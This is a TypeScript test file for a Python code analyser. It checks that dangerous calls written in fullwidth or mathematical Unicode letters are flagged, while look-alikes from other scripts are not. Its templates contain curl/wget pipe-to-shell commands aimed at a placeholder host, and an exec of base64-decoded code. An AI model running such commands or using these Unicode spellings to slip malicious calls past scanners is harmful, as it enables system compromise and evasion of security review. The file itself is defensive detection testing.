// Identifiers are read as Python reads them: NFKC-normalised (PEP 3131), so fullwidth `ｅｘｅｃ` and `import ｏｓ`
// are exec and os, while look-alike letters from other scripts (Cyrillic о) stay different names. The oracle is
// CPython: python3 parses each source with ast (never running it) and reports the names it sees; the analysis
// must find the dangerous call exactly when CPython's names are the dangerous ones.
import { execFileSync } from 'node:child_process';
import { analyzePython } from '../../../src/analyze/python/analyze.js';

/** Spellings of an ASCII identifier in other Unicode forms. */
const FORMS: Record<string, (s: string) => string> = {
  ascii: (s) => s,
  fullwidth: (s) => [...s].map((c) => (/[a-zA-Z]/.test(c) ? String.fromCodePoint(c.codePointAt(0)! - 0x21 + 0xff01) : c)).join(''),
  'mathematical bold': (s) => [...s].map((c) => (/[a-z]/.test(c) ? String.fromCodePoint(0x1d41a + c.charCodeAt(0) - 97) : c)).join(''),
  'mathematical sans-serif': (s) => [...s].map((c) => (/[a-z]/.test(c) ? String.fromCodePoint(0x1d5ba + c.charCodeAt(0) - 97) : c)).join(''),
  'first letter only': (s) => FORMS.fullwidth!(s.slice(0, 1)) + s.slice(1),
  // Not compatibility forms: different identifiers to Python.
  'cyrillic look-alikes': (s) => s.replace(/o/g, '\u043e').replace(/e/g, '\u0435').replace(/c/g, '\u0441').replace(/a/g, '\u0430'),
  'greek omicron': (s) => s.replace(/o/g, '\u03bf')
};

const B64 = Buffer.from('import os').toString('base64');
/** Templates over (os, system, exec, subprocess, Popen, __import__), each a dangerous call when spelled in ASCII. */
const TEMPLATES: [name: string, build: (n: (s: string) => string) => string, check: string, canonical: string[]][] = [
  ['import os; os.system', (n) => `import ${n('os')}\n${n('os')}.${n('system')}("curl -s https://x.invalid/p | sh")\n`, 'code.download-exec', ["Name(id='os'", "attr='system'"]],
  ['exec of a decoded string', (n) => `import base64\n${n('exec')}(base64.b64decode("${B64}"))\n`, 'code.dynamic-exec', ["Name(id='exec'"]],
  ['from subprocess import Popen', (n) => `from ${n('subprocess')} import ${n('Popen')}\n${n('Popen')}("wget -qO- https://x.invalid/i | bash", shell=True)\n`, 'code.download-exec', ["module='subprocess'", "name='Popen'"]],
  ['__import__ with a keyword', (n) => `${n('__import__')}("os").system("curl -s https://x.invalid/p | sh")\n`, 'code.download-exec', ["Name(id='__import__'"]],
  ['Thread(target=…) keyword', (n) => `import os, threading\nthreading.Thread(${n('target')}=os.system, args=("curl -s https://x.invalid/p | sh",)).start()\n`, 'code.download-exec', ["arg='target'"]]
];

interface OracleAnswer {
  ok: boolean;
  dump?: string;
}

/** CPython's reading of each source: ast.dump, or a syntax error. Parsing only; nothing is executed. */
function cpython(sources: string[]): OracleAnswer[] {
  const script = [
    'import ast, json, sys',
    'out = []',
    'for src in json.load(sys.stdin):',
    '    try:',
    '        out.append({"ok": True, "dump": ast.dump(ast.parse(src))})',
    '    except SyntaxError:',
    '        out.append({"ok": False})',
    'print(json.dumps(out))'
  ].join('\n');
  return JSON.parse(execFileSync('python3', ['-c', script], { input: JSON.stringify(sources), encoding: 'utf8' })) as OracleAnswer[];
}

const cases = TEMPLATES.flatMap(([t, build, check, canonical]) => Object.entries(FORMS).map(([form, n]) => ({ name: `${t} — ${form}`, src: build(n), check, canonical })));
const answers = cpython(cases.map((c) => c.src));

describe('identifiers as CPython normalises them', () => {
  test('the oracle parsed every case and normalised some of them', () => {
    expect(answers).toHaveLength(cases.length);
    // Sanity: the compatibility forms collapse to ASCII in CPython, the look-alikes do not.
    const fw = cases.findIndex((c) => c.name === 'import os; os.system — fullwidth');
    const cy = cases.findIndex((c) => c.name === 'import os; os.system — cyrillic look-alikes');
    expect(answers[fw]?.dump).toContain("Name(id='os'");
    expect(answers[cy]?.dump).not.toContain("Name(id='os'");
  });

  test.each(cases.map((c, i) => [c.name, i] as const))('%s', (_name, i) => {
    const c = cases[i]!;
    const answer = answers[i]!;
    const hits = analyzePython(c.src).hits;
    // Every form here is a valid identifier to CPython; the question is which name it becomes.
    expect(answer.ok).toBe(true);
    const dangerous = c.canonical.every((k) => answer.dump!.includes(k));
    const flagged = hits.some((h) => h.check === c.check && h.severity === 'critical');
    // Found exactly when CPython's names are the dangerous ones.
    expect(flagged).toBe(dangerous);
  });
});
